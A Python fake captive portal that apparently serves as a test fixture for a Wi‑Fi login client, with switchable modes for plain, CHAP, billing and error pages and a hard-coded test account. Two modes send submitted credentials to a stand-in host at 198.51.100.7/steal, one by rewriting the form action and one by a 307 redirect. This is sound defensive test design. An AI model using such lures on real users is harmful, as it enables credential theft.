"""A small captive portal: `python portal.py FILE` shows what the file says at that moment.

Who signs in as warga with the password desa goes into the set `guests` of nftables.
"""

import hashlib
import subprocess
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs

HOME = "http://10.77.0.1:8080/login"
FORM = """<title>Wifi Desa</title><form action="/login" method="post">
<input type="hidden" name="dst" value="http://desa.id/?a=1&amp;b=2"><input name="username">
<input name="password" type="password"><button>Masuk</button></form>"""
# as login pages of RouterOS do with CHAP: id \\371, challenge of four bytes
CHAP = """<script>function doLogin() { document.sendin.password.value =
hexMD5('\\371' + document.login.password.value + '\\357\\015\\330\\013'); }</script>"""
ABROAD = FORM.replace('"/login"', '"http://198.51.100.7/steal"')
PAGES = {
    "chap": CHAP + FORM,
    "no form": "<title>Wifi Desa</title><p>Selamat datang</p>",
    "bill": "<title>Layanan diisolir</title><p>Hubungi kami.</p>",
    "abroad": ABROAD,
}


class Page(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        path = self.path.partition("?")[0]
        if path == "/logout":
            guests("delete", self.client_address[0])
            return self._say(200, "<title>Sampai jumpa</title>")
        if path != "/login":
            return self._say(302, "", f"{HOME}?mac=AA-BB-CC-DD-EE-FF")
        mode = Path(sys.argv[1]).read_text()
        return self._say(500, "") if mode == "500" else self._say(200, PAGES.get(mode, FORM))

    def do_POST(self) -> None:
        mode = Path(sys.argv[1]).read_text()
        length = int(self.headers["Content-Length"])
        sent = {key: one[0] for key, one in parse_qs(self.rfile.read(length).decode()).items()}
        secret = "desa"
        if mode == "chap":
            secret = hashlib.md5(b"\xf9desa\xef\x0d\xd8\x0b").hexdigest()
        if mode == "abroad after":
            return self._say(307, "", "http://198.51.100.7/steal")
        right = ("warga", secret, "http://desa.id/?a=1&b=2")
        if tuple(sent.get(key) for key in ("username", "password", "dst")) == right:
            guests("add", self.client_address[0])
            return self._say(200, "<title>Selamat</title>")
        return self._say(200, PAGES.get(mode, FORM))

    def _say(self, status: int, text: str, to: str = "") -> None:
        body = text.encode()
        self.send_response(status)
        if to:
            self.send_header("Location", to)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


def guests(what: str, address: str) -> None:
    command = ["nft", what, "element", "ip", "hotspot", "guests", f"{{ {address} }}"]
    subprocess.run(command, capture_output=True)


if __name__ == "__main__":
    ThreadingHTTPServer(("0.0.0.0", 8080), Page).serve_forever()
